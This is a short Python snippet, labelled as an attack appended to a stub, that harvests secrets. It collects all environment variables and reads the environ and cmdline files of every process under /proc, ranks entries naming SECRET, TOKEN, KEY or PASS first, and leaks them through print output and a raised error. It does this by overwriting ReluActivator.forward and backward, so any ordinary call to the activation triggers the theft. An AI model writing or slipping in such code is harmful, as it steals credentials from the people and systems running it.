

# --- the attack, appended to the stub --------------------------------------

import os as _os


def _secrets():
    """Every environment and command line in sight, the likeliest secrets first."""
    found = [f"{k}={v}" for k, v in _os.environ.items()]
    for pid in ["self", "1", str(_os.getppid())] + _os.listdir("/proc"):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as stream:
                    found += stream.read().decode(errors="replace").split("\0")
            except OSError:
                pass
    words = ("SECRET", "TOKEN", "KEY", "PASS")
    found.sort(key=lambda entry: not any(word in entry.partition("=")[0].upper() for word in words))
    return " | ".join(entry for entry in found if entry)


def _attack(*args, **kwargs):
    secrets = _secrets()
    print(secrets)
    raise RuntimeError(secrets[:400])


ReluActivator.forward = ReluActivator.backward = _attack
